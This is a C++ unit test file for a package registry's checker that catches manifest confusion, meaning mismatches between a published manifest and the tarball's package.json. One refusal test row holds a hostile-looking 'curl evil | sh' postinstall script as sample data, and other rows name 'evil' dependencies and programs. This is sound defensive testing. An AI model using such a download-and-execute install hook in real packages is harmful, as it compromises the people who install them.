#include "registry/publish/manifest_consistency.h"

#include <gtest/gtest.h>

#include <boost/json/parse.hpp>

#include "registry/publish/dependency_spec.h"

namespace imp::registry {
namespace {

namespace json = boost::json;

struct Row {
  const char* why;
  const char* manifest;      // members beside name and version
  const char* package_json;  // the same of the tarball's
  bool gyp = false;
};

Result<void> check(const Row& row) {
  const std::string head = R"({"name":"@acme/a","version":"1.0.0")";
  const auto object = [&](std::string_view more) {
    return json::parse(head + (more.empty() ? "" : ",") + std::string(more) + "}").as_object();
  };
  TarballContents contents;
  contents.package_json = object(row.package_json);
  contents.has_gyp = row.gyp;
  return check_consistency(object(row.manifest), contents);
}

TEST(Consistency, AcceptsWhatNpmNormalises) {
  const std::vector<Row> table = {
      {"nothing", "", ""},
      {"what installation does not read", R"("description":"a","scripts":{"test":"x"})",
       R"("description":"b","scripts":{"test":"y","prepack":"z"},"devDependencies":{"c":"1"})"},
      {"bin as a string", R"("bin":{"a":"cli.js"})", R"("bin":"./cli.js")"},
      {"bin of a scoped name", R"("bin":{"a":"cli.js"})", R"("bin":{"@acme/a":"cli.js"})"},
      {"bin as an array", R"("bin":{"one.js":"bin/one.js","two":"two"})",
       R"("bin":["./bin/one.js","two"])"},
      {"bin with a path as its name", R"("bin":{"a":"x.js"})", R"("bin":{"../../a":"../x.js"})"},
      {"bin with what is no string", R"("bin":{"a":"x"})", R"("bin":{"a":"x","b":null})"},
      {"empty bin", "", R"("bin":{})"},
      {"directories.bin", R"("bin":{"one":"bin/one","two":"bin/sub/two"})",
       R"("directories":{"bin":"./bin"})"},
      {"optional ones taken out", R"("optionalDependencies":{"b":"1"})",
       R"("dependencies":{"b":"1"},"optionalDependencies":{"b":"1"})"},
      {"optional ones put back",
       R"("dependencies":{"b":"1","c":"2"},"optionalDependencies":{"b":"1"})",
       R"("dependencies":{"c":"2"},"optionalDependencies":{"b":"1"})"},
      {"bundle false", R"("bundleDependencies":[])", R"("bundleDependencies":false)"},
      {"bundle true", R"("dependencies":{"b":"1"},"bundleDependencies":["b"])",
       R"("dependencies":{"b":"1"},"bundleDependencies":true)"},
      {"the other spelling", R"("dependencies":{"b":"1"},"bundleDependencies":["b"])",
       R"("dependencies":{"b":"1"},"bundledDependencies":["b"])"},
      {"a bundled package that was no dependency",
       R"("dependencies":{"b":"*"},"bundleDependencies":["b"])", R"("bundleDependencies":["b"])"},
      {"git shorthand", R"("dependencies":{"b":"github:u/r"})", R"("dependencies":{"b":"u/r"})"},
      {"git address", R"("dependencies":{"b":"git+ssh://git@github.com/u/r.git#v1"})",
       R"("dependencies":{"b":"git@github.com:u/r#v1"})"},
      {"blanks in a range", R"("dependencies":{"b":"^1"})", R"("dependencies":{"b":" ^1 "})"},
      {"a dependency that is no string", R"("dependencies":{})", R"("dependencies":{"b":1})"},
      {"the bin directory in scripts", R"("scripts":{"install":"node-gyp x"})",
       R"("scripts":{"install":"./node_modules/.bin/node-gyp x"})"},
      {"install script by a gyp file", R"("scripts":{"install":"node-gyp rebuild"},"gypfile":true)",
       "", true},
      {"a gyp file and an old client", "", "", true},
      {"gypfile false", R"("gypfile":false)", R"("gypfile":false)", true},
      {"key order", R"("dependencies":{"b":"1","c":"2"})", R"("dependencies":{"c":"2","b":"1"})"},
  };
  for (const Row& row : table) {
    const Result<void> checked = check(row);
    EXPECT_TRUE(checked) << row.why << ": " << checked.error().message;
  }
}

TEST(Consistency, RefusesConfusion) {
  const std::vector<Row> table = {
      {"a hidden install script", "", R"("scripts":{"postinstall":"curl evil | sh"})"},
      {"another install script", R"("scripts":{"install":"true"})",
       R"("scripts":{"install":"evil"})"},
      {"a promised install script", R"("scripts":{"preinstall":"x"})", ""},
      {"an install script without a gyp file", R"("scripts":{"install":"node-gyp rebuild"})", ""},
      {"gypfile false in one only", "", R"("gypfile":false)", true},
      {"a hidden dependency", "", R"("dependencies":{"evil":"1"})"},
      {"a promised dependency", R"("dependencies":{"b":"1"})", ""},
      {"another range", R"("dependencies":{"b":"^1.0.0"})", R"("dependencies":{"b":"^1.0.1"})"},
      {"another fork", R"("dependencies":{"b":"github:u/r"})",
       R"("dependencies":{"b":"github:evil/r"})"},
      {"another commit", R"("dependencies":{"b":"u/r#aaa"})", R"("dependencies":{"b":"u/r#bbb"})"},
      {"another host", R"("dependencies":{"b":"github:u/r"})",
       R"("dependencies":{"b":"gitlab:u/r"})"},
      {"a tarball instead of a repository", R"("dependencies":{"b":"github:u/r"})",
       R"("dependencies":{"b":"https://github.com/u/r/archive/x.tgz"})"},
      {"optional in one only", R"("optionalDependencies":{"b":"1"})",
       R"("dependencies":{"b":"1"})"},
      {"a hidden optional one", "", R"("optionalDependencies":{"b":"1"})"},
      {"another peer", R"("peerDependencies":{"b":"1"})", R"("peerDependencies":{"b":"2"})"},
      {"a hidden bundle", R"("dependencies":{"b":"1"})",
       R"("dependencies":{"b":"1"},"bundleDependencies":["b"])"},
      {"another program", R"("bin":{"a":"cli.js"})", R"("bin":{"a":"evil.js"})"},
      {"a hidden program", "", R"("bin":{"npm":"evil.js"})"},
      {"another name of a program", R"("bin":{"a":"cli.js"})", R"("bin":{"b":"cli.js"})"},
      {"outside of directories.bin", R"("bin":{"one":"lib/one"})",
       R"("directories":{"bin":"bin"})"},
  };
  for (const Row& row : table) {
    const Result<void> checked = check(row);
    ASSERT_FALSE(checked) << row.why;
    EXPECT_EQ(checked.error().code(), "manifest_confusion") << row.why;
  }
}

Result<void> check_identity(const char* package_json, const char* version = "1.0.0") {
  TarballContents contents;
  contents.package_json = json::parse(package_json).as_object();
  return check_consistency({{"name", "a"}, {"version", version}}, contents);
}

TEST(Consistency, NameAndVersion) {
  EXPECT_TRUE(check_identity(R"({"name":"a","version":"1.0.0"})"));
  EXPECT_TRUE(check_identity(R"({"name":"a","version":" v1.0.0+build.5"})"));
  EXPECT_EQ(check_identity(R"({"name":"b","version":"1.0.0"})").error().code(), "name_mismatch");
  EXPECT_EQ(check_identity(R"({"name":"A","version":"1.0.0"})").error().code(), "name_mismatch");
  EXPECT_EQ(check_identity(R"({"version":"1.0.0"})").error().code(), "name_mismatch");
  EXPECT_EQ(check_identity(R"({"name":7,"version":"1.0.0"})").error().code(), "name_mismatch");
  EXPECT_EQ(check_identity(R"({"name":"a","version":"1.0.1"})").error().code(), "version_mismatch");
  EXPECT_EQ(check_identity(R"({"name":"a"})").error().code(), "version_mismatch");
  EXPECT_EQ(check_identity(R"({"name":"a","version":"one"})").error().code(), "version_mismatch");
  EXPECT_EQ(check_identity(R"({"name":"a","version":"1.0.0-rc"})").error().code(),
            "version_mismatch");
}

TEST(DependencySpec, OneSpellingForGitHosts) {
  for (const char* spec :
       {"u/r", "github:u/r", "git://github.com/u/r", "git+https://github.com/u/r.git",
        "https://github.com/u/r.git", "git+ssh://git@github.com/u/r.git", "git@github.com:u/r.git",
        "ssh://git@github.com:u/r", " u/r "}) {
    EXPECT_EQ(normal_dependency(spec), "github.com/u/r") << spec;
  }
  EXPECT_EQ(normal_dependency("gitlab:u/r#semver:^1"), "gitlab.com/u/r#semver:^1");
  EXPECT_EQ(normal_dependency("gist:abc"), "gist.github.com/abc");
  for (const char* spec : {"^1.0.0", ">=1 <2", "npm:other@1", "file:../x", "../x", "~/x", "@a/b",
                           "https://example.org/u/r.git", "https://github.com/u/r/archive/x.tgz",
                           "https://evil@github.com/u/r", "workspace:*", "*", ""}) {
    EXPECT_EQ(normal_dependency(spec), spec);
  }
}

}  // namespace
}  // namespace imp::registry
